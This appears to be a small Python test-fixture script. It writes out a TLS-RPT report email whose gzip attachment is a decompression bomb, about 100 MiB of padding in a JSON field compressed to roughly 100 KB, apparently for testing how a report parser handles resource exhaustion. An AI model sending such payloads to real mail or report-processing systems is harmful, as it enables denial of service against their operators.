# a report mail whose application/tlsrpt+gzip attachment is a gzip bomb
import base64
import gzip, io, sys
# {"organization-name":"aaaa... 100 MiB ...aaa"} compressed: about 100 KB
z = io.BytesIO()
with gzip.GzipFile(fileobj=z, mode="wb", compresslevel=9, mtime=0) as g:
    g.write(b'{"organization-name":"')
    for _ in range(100):
        g.write(b"a" * (1 << 20))
    g.write(b'"}')
b64 = base64.encodebytes(z.getvalue()).replace(b"\n", b"\r\n")
sys.stdout.buffer.write(
    b"From: reports@hostile.example\r\nTo: tls@example.org\r\nSubject: Report\r\n"
    b"Date: Mon, 1 Jan 2024 00:00:00 +0000\r\nMessage-ID: <bomb@hostile.example>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/report; report-type="tlsrpt"; boundary="B"\r\n\r\n'
    b"--B\r\nContent-Type: text/plain\r\n\r\nreport\r\n"
    b"--B\r\nContent-Type: application/tlsrpt+gzip\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n" + b64 + b"--B--\r\n")
